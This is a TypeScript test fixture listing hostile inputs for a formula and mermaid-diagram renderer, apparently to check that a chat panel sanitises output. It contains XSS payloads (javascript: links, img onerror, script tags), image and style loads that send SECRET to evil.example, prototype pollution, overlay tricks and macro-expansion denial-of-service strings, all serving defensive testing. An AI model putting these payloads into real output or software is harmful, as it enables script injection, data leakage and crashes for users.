import type { HostileAnswer } from './hostile-answer.ts';

const raw = String.raw;

/** Mathematics and diagrams. */
export const FORMULAS: readonly HostileAnswer[] = [
  {
    tries: 'links to a script in a formula',
    text: raw`$\href{javascript:owned=1}{x}$ and $$\href{JaVaScRiPt:owned=1}{x}$$`,
  },
  {
    tries: 'links to a page in a formula',
    text: raw`$\url{https://evil.example/?q=SECRET}$ and \(\href{data:text/html,x}{y}\)`,
  },
  {
    tries: 'loads an image in a formula',
    text: raw`$$\includegraphics[height=1em]{https://evil.example/a.png?q=SECRET}$$`,
  },
  {
    tries: 'names an element in a formula',
    text: raw`$\htmlId{root}{x}$ $\htmlClass{dialog-overlay}{y}$ $\htmlData{owned=1}{z}$`,
  },
  {
    tries: 'styles an element in a formula',
    text: raw`$\htmlStyle{position:fixed;inset:0;background:url(https://evil.example/a)}{x}$`,
  },
  {
    tries: 'draws over the panel in a formula',
    text: raw`$$\rule{100000em}{100000em}$$ $\rule[-9999em]{9999em}{99999em}$`,
  },
  {
    tries: 'moves a formula over the panel',
    text: raw`$\kern{-9999em}\raisebox{9999em}{x}\hspace{-99999em}\smash{y}$`,
  },
  {
    tries: 'enlarges a formula over the panel',
    text: raw`$$\Huge\Huge\mathop{\rule{1em}{999em}}\limits^{\Huge x}$$`,
  },
  { tries: 'defines a macro that calls itself', text: raw`$\def\a{\a\a}\a$ $$\newcommand{\b}{\b}\b$$` },
  {
    tries: 'defines macros that double each other',
    text: raw`$$\def\a{xx}\def\b{\a\a\a\a\a\a\a\a\a\a}\def\c{\b\b\b\b\b\b\b\b\b\b}\def\d{\c\c\c\c\c\c\c\c\c\c}\def\e{\d\d\d\d\d\d\d\d\d\d}\e\e$$`,
  },
  {
    tries: 'redefines what other formulas use',
    text: raw`$\gdef\frac#1#2{\href{javascript:owned=1}{#1}}$ then $\frac{1}{2}$`,
  },
  { tries: 'nests groups', text: `$${'{'.repeat(2_000)}x${'}'.repeat(2_000)}$` },
  { tries: 'nests roots and fractions', text: `$$${'\\sqrt{\\frac{1}{'.repeat(300)}x${'}}'.repeat(300)}$$` },
  { tries: 'nests scripts', text: `$${'x^{'.repeat(500)}y${'}'.repeat(500)}$` },
  {
    tries: 'makes a matrix of a hundred columns',
    text: `$$\\begin{matrix}${`${'a&'.repeat(99)}a\\\\`.repeat(50)}\\end{matrix}$$`,
  },
  {
    tries: 'leaves a formula open',
    text: 'It costs $$ \\frac{1}{ <img src=x onerror=owned=1>\n\nand goes on \\[ x \\( y',
  },
  { tries: 'opens formulas', text: '$x '.repeat(3_000) },
  {
    tries: 'writes HTML in a formula',
    text: raw`$<img src=x onerror=owned=1>$ $\text{<script>owned = 1</script>}$`,
  },
  {
    tries: 'writes HTML in a formula that can’t be read',
    text: raw`$\undefined<img src=x onerror=owned=1>$ $$\frac{<svg onload=owned=1>$$`,
  },
  {
    tries: 'colours a formula with a style',
    text: raw`$\color{red;background:url(https://evil.example/a)}{x}$ $\colorbox{url(x)}{y}$`,
  },
  { tries: 'tags a formula', text: raw`$$x \tag{<img src=x onerror=owned=1>} \label{root} \ref{root}$$` },
  {
    tries: 'links to a script in a diagram',
    text: '```mermaid\nflowchart LR\nA-->B\nclick A "javascript:owned=1"\nclick B href "javascript:owned=1" _self\n```',
  },
  {
    tries: 'calls a function from a diagram',
    text: '```mermaid\nflowchart LR\nA-->B\nclick A call alert(1)\nclick B callback "x"\n```',
  },
  {
    tries: 'writes HTML into a diagram',
    text: '```mermaid\nflowchart LR\nA["<img src=x onerror=owned=1>"]-->B["<script>owned = 1</script>"]\n```',
  },
  {
    tries: 'loosens a diagram’s security',
    text: '```mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\nflowchart LR\nA["<iframe srcdoc=x>"]-->B\n```',
  },
  {
    tries: 'styles the panel from a diagram',
    text: '```mermaid\n%%{init: {"themeCSS": "* { background: url(https://evil.example/a) }"}}%%\nflowchart LR\nA-->B\nstyle A fill:url(https://evil.example/b)\n```',
  },
  {
    tries: 'pollutes by a diagram',
    text: '```mermaid\n%%{init: {"__proto__": {"owned": 1}, "constructor": {"prototype": {"owned": 1}}}}%%\ngraph TD\n__proto__-->constructor\n```',
  },
  {
    tries: 'loads an image in a diagram',
    text: '```mermaid\nflowchart LR\nA@{ img: "https://evil.example/a.png?q=SECRET", label: "x" }\n```',
  },
  {
    tries: 'draws a diagram without end',
    text: `\`\`\`mermaid\nflowchart LR\n${Array.from({ length: 500 }, (_, index) => `A${index}-->A${index + 1} & A${index + 2}`).join('\n')}\n\`\`\``,
  },
];
